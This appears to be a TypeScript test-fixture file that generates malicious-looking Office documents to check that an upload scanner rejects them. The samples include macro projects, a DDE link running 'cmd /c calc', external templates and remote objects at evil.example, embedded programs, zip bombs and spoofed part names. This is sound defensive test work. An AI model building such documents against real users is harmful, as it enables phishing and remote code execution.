import {
  docFile,
  encryptedPackage,
  linkedObject,
  passwordRecord,
  sheetRecord,
  xlsFile,
} from './oldOfficeFiles.ts';

/** A file in a zip. `declaredSize`: a wrong size in its header. `unicodePath`: another name, in an extra field of the directory. */
export interface ZipPartInput {
  readonly name: string;
  readonly content: string | Uint8Array;
  readonly isStored?: boolean;
  readonly declaredSize?: number;
  readonly unicodePath?: string;
}

const encoder = new TextEncoder();
const bytesOf = (content: string | Uint8Array) =>
  typeof content === 'string' ? encoder.encode(content) : content;

/** Returns a zip of these files, deflated unless `isStored`. */
export async function zipFile(parts: readonly ZipPartInput[]): Promise<Uint8Array> {
  const body: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  let at = 0;
  for (const { name, content, isStored = false, declaredSize, unicodePath } of parts) {
    const plain = bytesOf(content);
    const packed = isStored ? plain : await deflated(plain);
    const path = encoder.encode(name);
    // From version to name length: the same in both headers.
    const shared = littleEndian([
      [20, 2],
      [0x800, 2],
      [isStored ? 0 : 8, 2],
      [0, 4],
      [crc32(plain), 4],
      [packed.byteLength, 4],
      [declaredSize ?? plain.byteLength, 4],
      [path.byteLength, 2],
    ]);
    const local = joined([littleEndian([[0x04034b50, 4]]), shared, littleEndian([[0, 2]]), path, packed]);
    const extra = unicodePath === undefined ? new Uint8Array() : unicodePathField(path, unicodePath);
    const trailer = littleEndian([
      [extra.byteLength, 2],
      ...Array<[number, number]>(3).fill([0, 2]),
      [0, 4],
      [at, 4],
    ]);
    directory.push(
      joined([
        littleEndian([
          [0x02014b50, 4],
          [20, 2],
        ]),
        shared,
        trailer,
        path,
        extra,
      ]),
    );
    body.push(local);
    at += local.byteLength;
  }
  const index = joined(directory);
  const end = littleEndian([
    [0x06054b50, 4],
    [0, 4],
    [parts.length, 2],
    [parts.length, 2],
    [index.byteLength, 4],
    [at, 4],
    [0, 2],
  ]);
  return joined([...body, index, end]);
}

/** The extra field with the Unicode Path of Info-ZIP: some programs prefer its name. */
function unicodePathField(path: Uint8Array, name: string): Uint8Array {
  const bytes = encoder.encode(name);
  const head = littleEndian([
    [0x7075, 2],
    [5 + bytes.byteLength, 2],
    [1, 1],
    [crc32(path), 4],
  ]);
  return joined([head, bytes]);
}

async function deflated(plain: Uint8Array): Promise<Uint8Array> {
  const stream = new Blob([plain as Uint8Array<ArrayBuffer>])
    .stream()
    .pipeThrough(new CompressionStream('deflate-raw'));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

function littleEndian(fields: readonly (readonly [value: number, bytes: number])[]): Uint8Array {
  return Uint8Array.from(
    fields.flatMap(([value, bytes]) =>
      Array.from({ length: bytes }, (_, index) => Math.floor(value / 256 ** index) % 256),
    ),
  );
}

function joined(pieces: readonly Uint8Array[]): Uint8Array {
  const result = new Uint8Array(pieces.reduce((sum, { byteLength }) => sum + byteLength, 0));
  let at = 0;
  for (const piece of pieces) {
    result.set(piece, at);
    at += piece.byteLength;
  }
  return result;
}

const CRC_TABLE = Uint32Array.from({ length: 256 }, (_, byte) => {
  let crc = byte;
  for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  return crc;
});

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (crc >>> 8) ^ CRC_TABLE[(crc ^ byte) & 0xff]!;
  return (crc ^ 0xffffffff) >>> 0;
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const OPEN = 'http://schemas.openxmlformats.org';
const OFFICE = `${OPEN}/officeDocument/2006/relationships`;

/**
 * Returns a relationships part. `type`: the last segment of the type; `isExternal`: the target is outside the package.
 */
export function relationships(
  name: string,
  list: readonly { type: string; target: string; isExternal?: boolean }[],
): ZipPartInput {
  const rows = list.map(
    ({ type, target, isExternal }, index) =>
      `<Relationship Id="rId${index + 1}" Type="${OFFICE}/${type}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
  );
  return relationshipsOf(name, rows.join(''));
}

/** Returns a relationships part with this XML in it. */
export function relationshipsOf(name: string, xml: string): ZipPartInput {
  return {
    name,
    content: `${XML}<Relationships xmlns="${OPEN}/package/2006/relationships">${xml}</Relationships>`,
  };
}

/** Returns the parts of a workbook with a link to another program, which Excel starts (DDE), under any name. */
export function ddeLink(name = 'xl/externalLinks/externalLink1.xml', start = ''): ZipPartInput[] {
  return [
    relationships('xl/_rels/workbook.xml.rels', [
      { type: 'worksheet', target: 'worksheets/sheet1.xml' },
      { type: 'externalLink', target: name.replace('xl/', '') },
    ]),
    {
      name,
      content: `${XML}${start}<x:externalLink xmlns:x="${OPEN}/spreadsheetml/2006/main"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>`,
    },
  ];
}

/** Returns the parts of a workbook with a link to another workbook. */
export function workbookLink(target: string): ZipPartInput[] {
  return [
    relationships('xl/_rels/workbook.xml.rels', [
      { type: 'worksheet', target: 'worksheets/sheet1.xml' },
      { type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
    ]),
    relationships('xl/externalLinks/_rels/externalLink1.xml.rels', [
      { type: 'externalLinkPath', target, isExternal: true },
    ]),
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: `${XML}<externalLink xmlns="${OPEN}/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="ddeLink"/></sheetNames></externalBook></externalLink>`,
    },
  ];
}

function contentTypes(main: string, type: string): ZipPartInput {
  return {
    name: '[Content_Types].xml',
    content:
      `${XML}<Types xmlns="${OPEN}/package/2006/content-types">` +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      `<Override PartName="${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`,
  };
}

/** Returns a one-page Word document. `extra` parts replace parts of the same name. */
export function docxFile(extra: readonly ZipPartInput[] = []): Promise<Uint8Array> {
  return officeFile(
    [
      contentTypes('/word/document.xml', 'wordprocessingml.document'),
      relationships('_rels/.rels', [{ type: 'officeDocument', target: 'word/document.xml' }]),
      relationships('word/_rels/document.xml.rels', [
        { type: 'styles', target: 'styles.xml' },
        { type: 'settings', target: 'settings.xml' },
        { type: 'hyperlink', target: 'https://www.example.com/?a=1&amp;b=&gt;2', isExternal: true },
        { type: 'package', target: 'embeddings/Microsoft_Excel_Sheet.xlsx' },
      ]),
      {
        name: 'word/document.xml',
        content: `${XML}<w:document xmlns:w="${OPEN}/wordprocessingml/2006/main"><w:body>${'<w:p><w:r><w:t>Please send the records of the visit.</w:t></w:r></w:p>'.repeat(40)}</w:body></w:document>`,
      },
      {
        name: 'word/styles.xml',
        content: `${XML}<w:styles xmlns:w="${OPEN}/wordprocessingml/2006/main"/>`,
      },
      {
        name: 'word/settings.xml',
        content: `${XML}<w:settings xmlns:w="${OPEN}/wordprocessingml/2006/main"/>`,
      },
    ],
    extra,
  );
}

/** Returns an Excel workbook with one sheet. `extra` parts replace parts of the same name. */
export function xlsxFile(extra: readonly ZipPartInput[] = []): Promise<Uint8Array> {
  const rows = Array.from(
    { length: 2000 },
    (_, row) => `<row r="${row + 1}"><c r="A${row + 1}" s="1"><v>${(row * 7919) % 1000}</v></c></row>`,
  );
  return officeFile(
    [
      contentTypes('/xl/workbook.xml', 'spreadsheetml.sheet'),
      relationships('_rels/.rels', [{ type: 'officeDocument', target: 'xl/workbook.xml' }]),
      relationships('xl/_rels/workbook.xml.rels', [{ type: 'worksheet', target: 'worksheets/sheet1.xml' }]),
      {
        name: 'xl/workbook.xml',
        content: `${XML}<workbook xmlns="${OPEN}/spreadsheetml/2006/main"><sheets><sheet name="Bill" sheetId="1"/></sheets></workbook>`,
      },
      {
        name: 'xl/worksheets/sheet1.xml',
        content: `${XML}<worksheet xmlns="${OPEN}/spreadsheetml/2006/main"><sheetData>${rows.join('')}</sheetData></worksheet>`,
      },
    ],
    extra,
  );
}

function officeFile(parts: readonly ZipPartInput[], extra: readonly ZipPartInput[]): Promise<Uint8Array> {
  const replaced = new Set(extra.map(({ name }) => name));
  return zipFile([...parts.filter(({ name }) => !replaced.has(name)), ...extra]);
}

/** Returns a compound file (DOC, XLS, OLE object) with these storages and streams in its directory. */
export function compoundFile(names: readonly string[], text = ''): Uint8Array {
  const header = new Uint8Array(512);
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  // Sectors of 512 bytes.
  header[30] = 9;
  const entries = ['Root Entry', ...names].map((name, index) => {
    const entry = new Uint8Array(128);
    const view = new DataView(entry.buffer);
    for (const [at, letter] of [...name].entries()) view.setUint16(2 * at, letter.charCodeAt(0), true);
    view.setUint16(64, 2 * (name.length + 1), true);
    entry[66] = index === 0 ? 5 : 1;
    entry[67] = 1;
    return entry;
  });
  return joined([header, ...entries, encoder.encode(text.padEnd(512))]);
}

/** Returns the first bytes of a Windows program. */
function programBytes(): Uint8Array {
  const bytes = new Uint8Array(512);
  bytes.set([0x4d, 0x5a]);
  bytes[0x3c] = 0x80;
  bytes.set([0x50, 0x45, 0, 0], 0x80);
  return bytes;
}

const NEEDS_PASSWORD = 'needs a password';

/** Returns unsafe documents that look like normal ones, each with a part of its error message. */
export async function unsafeOfficeFiles(): Promise<
  readonly {
    readonly what: string;
    readonly name: string;
    readonly content: Uint8Array;
    readonly why: string;
  }[]
> {
  const oleObject = (content: Uint8Array) => docxFile([{ name: 'word/embeddings/oleObject1.bin', content }]);
  const wordDocumentThatLoads = (type: string, target: string) =>
    docxFile([relationships('word/_rels/settings.xml.rels', [{ type, target, isExternal: true }])]);
  const macros = { name: 'word/vbaProject.bin', content: compoundFile(['VBA', '_VBA_PROJECT']) };
  const zeros = new Uint8Array(4 * 1024 * 1024);
  const many = Array.from({ length: 2001 }, (_, index) => ({ name: `word/part${index}.xml`, content: '' }));
  const nested = await zipFile([{ name: 'zeros.bin', content: zeros }]);
  return [
    { what: 'macros', name: 'letter.docx', content: await docxFile([macros]), why: 'macros' },
    {
      what: 'macros under another name',
      name: 'letter.docx',
      content: await docxFile([
        relationships('word/_rels/document.xml.rels', [{ type: 'vbaProject', target: 'notes.bin' }]),
        { name: 'word/notes.bin', content: compoundFile(['Notes']) },
      ]),
      why: 'macros',
    },
    {
      what: 'macros of an Excel workbook',
      name: 'bill.xlsx',
      content: await xlsxFile([{ name: 'xl/vbaProject.bin', content: 'x' }]),
      why: 'macros',
    },
    {
      what: 'a macro sheet',
      name: 'bill.xlsx',
      content: await xlsxFile([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
      why: 'macros',
    },
    {
      what: 'a macro-enabled document inside',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/embeddings/inner.docx', content: await docxFile([macros]) }]),
      why: 'macros',
    },
    ...(await Promise.all(
      [
        relationships('word/_rels/settings.xml.rels', [
          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
        ]),
        macros,
        { name: 'word/embeddings/run.js', content: 'x' },
      ].map(async (part) => ({
        what: `a harmless second name of ${part.name}`,
        name: 'letter.docx',
        content: await docxFile([{ ...part, unicodePath: 'word/notes.xml' }]),
        why: 'damaged',
      })),
    )),
    ...(await Promise.all(
      [
        'word/_rels/settings.xml.rels.',
        'word/_rels/settings.xml.%72els',
        'word/_rels/settings.xml.rels/',
      ].map(async (name) => ({
        what: `an external template in ${name}`,
        name: 'letter.docx',
        content: await docxFile([
          relationships(name, [
            { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
          ]),
        ]),
        why: 'damaged',
      })),
    )),
    { what: 'macros', name: 'old.doc', content: compoundFile(['WordDocument', 'Macros']), why: 'macros' },
    {
      what: 'macros',
      name: 'old.xls',
      content: compoundFile(['Workbook', '_VBA_PROJECT_CUR']),
      why: 'macros',
    },
    {
      what: 'a program',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/media/image1.png', content: programBytes() }]),
      why: 'embedded program',
    },
    {
      what: 'a script',
      name: 'bill.xlsx',
      content: await xlsxFile([{ name: 'xl/embeddings/run.js', content: 'x' }]),
      why: 'embedded program',
    },
    {
      what: 'an OLE package',
      name: 'letter.docx',
      content: await oleObject(compoundFile(['\u0001Ole10Native'])),
      why: 'embedded program',
    },
    {
      what: 'an OLE package',
      name: 'old.doc',
      content: compoundFile(['ObjectPool', '\u0001Ole10Native']),
      why: 'embedded program',
    },
    {
      what: 'an external template',
      name: 'letter.docx',
      content: await wordDocumentThatLoads('attachedTemplate', 'https://evil.example/t.dotm'),
      why: 'another location',
    },
    {
      what: 'a remote object',
      name: 'letter.docx',
      content: await wordDocumentThatLoads('oleObject', 'mhtml:https://evil.example/x.html!x-usc:1'),
      why: 'another location',
    },
    {
      what: 'an external template behind a misleading attribute',
      name: 'letter.docx',
      content: await docxFile([
        relationshipsOf(
          'word/_rels/settings.xml.rels',
          `<Relationship Id=" Type='x/hyperlink' " Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
        ),
      ]),
      why: 'another location',
    },
    {
      what: 'an external template that is called a hyperlink',
      name: 'letter.docx',
      content: await wordDocumentThatLoads('hyperlink', 'https://evil.example/t.dotm'),
      why: 'another location',
    },
    {
      what: 'a linked object',
      name: 'letter.docx',
      content: await oleObject(linkedObject()),
      why: 'another location',
    },
    { what: 'a linked object', name: 'old.doc', content: linkedObject(), why: 'another location' },
    {
      what: 'a template on a server',
      name: 'letter.docx',
      content: await wordDocumentThatLoads('attachedTemplate', 'file:///\\\\server\\t.dotm'),
      why: 'another location',
    },
    ...(await Promise.all(
      ['aFChunk', 'mailMergeSource', 'video', 'audio', 'frame', 'subDocument', 'font'].map(async (type) => ({
        what: `an external relationship of type ${type}`,
        name: 'letter.docx',
        content: await wordDocumentThatLoads(type, 'https://evil.example/x'),
        why: 'another location',
      })),
    )),
    { what: 'a DDE link', name: 'bill.xlsx', content: await xlsxFile(ddeLink()), why: 'another location' },
    {
      what: 'a workbook link with a DDE target',
      name: 'bill.xlsx',
      content: await xlsxFile(workbookLink("cmd|'/c calc'!A1")),
      why: 'another location',
    },
    {
      what: 'an RTF document',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/afchunk.dat', content: '{\\rtf1 text}' }]),
      why: 'embedded program',
    },
    ...(await Promise.all(
      ['url', 'iso', 'lnk', 'img', 'vhd', 'one', 'msix', 'search-ms', 'rtf'].map(async (extension) => ({
        what: `a .${extension} file`,
        name: 'letter.docx',
        content: await docxFile([{ name: `word/embeddings/a.${extension}`, content: 'x' }]),
        why: 'embedded program',
      })),
    )),
    {
      what: 'a relationships part of unclosed elements',
      name: 'letter.docx',
      content: await docxFile([
        { name: 'word/_rels/settings.xml.rels', content: '<Relationship '.repeat(9000) },
      ]),
      why: 'damaged',
    },
    {
      what: 'a hidden Excel 4.0 macro sheet',
      name: 'old.xls',
      content: xlsFile([sheetRecord('macros', 2)]),
      why: 'macros',
    },
    {
      what: 'a workbook with an Excel 4.0 macro sheet',
      name: 'letter.docx',
      content: await oleObject(xlsFile([sheetRecord('macros')])),
      why: 'macros',
    },
    {
      what: 'more than 2,000 parts',
      name: 'letter.docx',
      content: await docxFile(many),
      why: 'too many parts',
    },
    {
      what: 'a compression ratio above 100',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/media/image1.png', content: zeros }]),
      why: 'too compressed',
    },
    {
      what: 'a zip bomb in a zip',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/embeddings/inner.docx', content: nested, isStored: true }]),
      why: 'too compressed',
    },
    {
      what: 'a part that is longer than declared',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/media/image1.png', content: zeros, declaredSize: 100 }]),
      why: 'damaged',
    },
    {
      what: 'a plain zip under another name',
      name: 'letter.docx',
      content: await zipFile([{ name: 'readme.txt', content: 'text' }]),
      why: 'damaged',
    },
    {
      what: 'a truncated document',
      name: 'letter.docx',
      content: (await docxFile()).slice(0, 800),
      why: 'damaged',
    },
    { what: 'a password', name: 'letter.docx', content: encryptedPackage(), why: NEEDS_PASSWORD },
    { what: 'a password', name: 'bill.xlsx', content: encryptedPackage(), why: NEEDS_PASSWORD },
    {
      what: 'the password of a newer file',
      name: 'old.doc',
      content: encryptedPackage(),
      why: NEEDS_PASSWORD,
    },
    { what: 'a password', name: 'old.doc', content: docFile({ isEncrypted: true }), why: NEEDS_PASSWORD },
    { what: 'a password', name: 'old.xls', content: xlsFile([passwordRecord]), why: NEEDS_PASSWORD },
    {
      what: 'a password of a workbook inside',
      name: 'letter.docx',
      content: await docxFile([{ name: 'word/embeddings/sheet.xlsx', content: encryptedPackage() }]),
      why: NEEDS_PASSWORD,
    },
    {
      what: 'an old document under the name of a newer one',
      name: 'letter.docx',
      content: docFile(),
      why: 'does not match its file type',
    },
  ];
}
